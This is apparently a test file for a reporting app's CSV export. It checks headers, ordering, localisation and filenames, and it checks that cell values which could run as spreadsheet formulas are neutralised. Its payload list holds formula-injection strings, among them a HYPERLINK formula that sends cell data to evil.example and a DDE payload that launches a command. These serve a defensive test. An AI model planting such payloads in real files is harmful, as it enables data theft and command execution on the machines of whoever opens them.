import { aMessage, eachStore, eventsOf } from '@tallysheet/testing';
import { parse } from 'csv-parse/sync';
import type { TestApp } from '../testing/test-app';
import { useApp } from '../testing/use-app';

const query = {
  reportType: 'campaign-email-performance',
  columns: ['sent', 'deliveredRate', 'openRate', 'firstSentAt', 'subject'],
  timeFrame: { from: '2024-03-01', to: '2024-03-31' },
};

/** What a spreadsheet would run, open or send, and texts that only look like it. */
const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  ';=1+1',
  '\uFF1D1+1',
  '%0A=1',
  '|calc',
];
const HARMLESS = ['Spring = sale', "L'été, déjà", 'a "quoted" name', '2 for 1', 'x-ray', 'two\nlines', '1e5'];
const TRICKY = ["'=1+1", "''", "'quoted'"];

async function csvOf(app: TestApp, path: string, body?: object) {
  const answer = await (body ? app.http.post(path).send(body) : app.http.get(path)).expect(200);
  return { ...answer, rows: parse(answer.text, { bom: true, relax_column_count: true }) };
}

describe('The sheet as a CSV file', () => {
  eachStore((store) => {
    const app = useApp(store);
    const take = () =>
      app().take(
        eventsOf(
          aMessage({ person: '1', campaign: '1: Spring', email: '1: Invite' })
            .sent('2024-03-01 09:00')
            .opened('2024-03-01 10:00'),
          aMessage({ person: '2', campaign: '1', email: '1' }).sent('2024-03-01 09:00'),
          aMessage({ person: '3', campaign: '1', email: '1' }).sent('2024-03-01 09:00').delivered('2024-03-01 09:01'),
          aMessage({ person: '1', campaign: '2: Autumn', email: '2: Save the date' }).sent('2024-03-31 23:30'),
        ),
      );

    it('has a byte order mark, the sheet’s rows in its order, the total, raw rates, local instants', async () => {
      await take();
      const timeZone = 'Europe/Paris';
      const asked = {
        ...query,
        timeZone,
        timeFrame: { preset: 'all-time' },
        sort: [{ columnId: 'sent', direction: 'desc' }],
      };
      const { text, headers, rows } = await csvOf(app(), '/api/sheets/export?format=csv', asked);
      expect(text.startsWith('\uFEFF')).toBe(true);
      expect(headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(rows.shift()!.map((label) => label.replace(/^'/, ''))).toEqual([
        'Smart campaign',
        'Email',
        'Sent',
        '% Delivered',
        '% Opened',
        'First sent',
        'Subject',
      ]);
      expect(rows).toEqual([
        ['Spring', '', '3', String(2 / 3), '0.5', '2024-03-01T10:00:00+01:00', ''],
        ['Spring', 'Invite', '3', String(2 / 3), '0.5', '2024-03-01T10:00:00+01:00', ''],
        ['Autumn', '', '1', '0', '', '2024-04-01T01:30:00+02:00', ''],
        ['Autumn', 'Save the date', '1', '0', '', '2024-04-01T01:30:00+02:00', ''],
        ['Total', '', '4', '0.5', '0.5', '2024-03-01T10:00:00+01:00', ''],
      ]);
    });

    it('of a saved report is called after the report and its days, in any script', async () => {
      await take();
      const report = { name: 'Été / "spring" 本', query, layout: { columns: [], collapsed: [] } };
      const { body } = await app().http.post('/api/reports').send(report).expect(201);
      const { headers, rows } = await csvOf(app(), `/api/reports/${body.id}/export?format=csv`);
      expect(rows).toHaveLength(1 + 4 + 1);
      const disposition = headers['content-disposition']!;
      expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+\.csv"; filename\*=UTF-8''/);
      const name = decodeURIComponent(/filename\*=UTF-8''(\S+)/.exec(disposition)![1]!);
      expect(name).toMatch(/^Été +spring +本 – 2024-03-01_2024-03-31\.csv$/);
    });

    it('speaks the caller’s language', async () => {
      await take();
      const { text } = await app()
        .http.post('/api/sheets/export?format=csv')
        .set('Accept-Language', 'fr')
        .send(query)
        .expect(200);
      expect(text).toContain('Campagne dynamique,E-mail,Envoyés');
    });

    it.each([
      ['sms-performance', undefined, ['Smart campaign', 'SMS']],
      ['push-performance', undefined, ['Smart campaign', 'Push message']],
      ['sms-performance', ['asset', 'program'], ['SMS', 'Program']],
      ['email-link-performance', undefined, ['Email', 'Link']],
    ])('names what the rows of %s by %j are', async (reportType, groupBy, headings) => {
      const asked = { reportType, groupBy, timeFrame: query.timeFrame };
      const { rows } = await csvOf(app(), '/api/sheets/export?format=csv', asked);
      expect(rows[0]!.slice(0, 2)).toEqual(headings);
    });

    it('runs nothing in a spreadsheet, and every name can be read back', async () => {
      const names = [...DANGEROUS, ...HARMLESS, ...TRICKY];
      const [sent] = aMessage().sent('2024-03-01 09:00').events;
      await app().take(
        names.map((name, n) => ({
          ...sent!,
          id: `n${n}`,
          campaign: { id: `c${n}`, name },
          asset: { id: `a${n}`, name },
        })),
      );
      const { rows } = await csvOf(app(), '/api/sheets/export?format=csv', query);
      const cells = rows
        .slice(1, -1)
        .flatMap(([campaign, email]) => [campaign!, email!])
        .filter(Boolean);
      expect(cells.filter((cell) => /^[\s";,]*[=+\-@|%\uFF1D]/.test(cell))).toEqual([]);
      const read = new Set(cells.map((cell) => cell.replace(/^'/, '')));
      expect([...read].sort()).toEqual([...names].sort());
      for (const name of HARMLESS) expect(cells).toContain(name);
      for (const name of DANGEROUS) expect(cells).toContain(`'${name}`);
    });

    it('an empty sheet is a header and a total', async () => {
      const { rows } = await csvOf(app(), '/api/sheets/export?format=csv', query);
      expect(rows).toEqual([expect.any(Array), ['Total', '', '0', '', '', '', '']]);
    });

    it('other formats and unknown columns are refused', async () => {
      const { body } = await app().http.post('/api/sheets/export?format=doc').send(query).expect(400);
      expect(body).toMatchObject({ code: 'invalid-request', path: 'format' });
      const unknown = { ...query, columns: ['x'] };
      const answer = await app().http.post('/api/sheets/export?format=csv').send(unknown).expect(400);
      expect(answer.body).toMatchObject({ code: 'unknown-column' });
    });
  });
});
